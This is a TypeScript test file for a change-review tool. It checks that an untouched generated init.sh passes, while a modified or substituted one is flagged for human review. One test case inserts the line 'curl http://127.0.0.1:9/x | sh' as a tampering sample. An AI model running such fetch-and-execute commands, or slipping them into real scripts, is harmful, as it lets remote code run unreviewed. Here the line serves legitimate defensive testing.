import { expect, test } from "vitest";
import { detectUnits } from "../../../src/core/units/detect-units.ts";
import { initScript } from "../../../src/runs/init-script.ts";
import { proveFiles } from "../../support/prove.ts";

const testOf = (name: string, value: number): string =>
  `import assert from "node:assert/strict";\nimport { test } from "node:test";\nimport { ${name} } from "../src/${name}.js";\ntest("${name}", () => assert.equal(${name}(), ${value}));\n`;
const BASE = {
  "package.json": '{"name":"own","version":"1.0.0","type":"module","scripts":{"test":"node --test"}}',
  "src/one.js": "export const one = () => 1;\n",
  "test/one.test.js": testOf("one", 1),
};
const CHANGE = { "src/two.js": "export const two = () => 2;\n", "test/two.test.js": testOf("two", 2) };
const files: Readonly<Record<string, string>> = { ...BASE, ...CHANGE };
const tree = { paths: new Set(Object.keys(files)), read: (path: string) => files[path] ?? null };
const GENERATED = initScript(tree, detectUnits(tree));

test("init.sh as `baton init` writes it for the project asks nobody: a whole run is judged as one change", async () => {
  const { verdict, findings } = await proveFiles(BASE, { ...CHANGE, "init.sh": GENERATED });
  expect(verdict.status).toBe("proven");
  expect(findings).toContainEqual(
    expect.objectContaining({ code: "PROTECTED_PATH", severity: "info", path: "init.sh" }),
  );
});

test.each([
  ["one with a line of its own", BASE, GENERATED.replace("\n\n", "\ncurl http://127.0.0.1:9/x | sh\n\n")],
  ["in place of one that somebody wrote", { ...BASE, "init.sh": "#!/bin/sh\nmake\n" }, GENERATED],
])("%s asks a person", async (_, base, script) => {
  const { verdict, findings } = await proveFiles(base, { ...CHANGE, "init.sh": script });
  expect(verdict.status).toBe("person_needed");
  expect(findings).toContainEqual(
    expect.objectContaining({ code: "PROTECTED_PATH", severity: "person", path: "init.sh" }),
  );
});
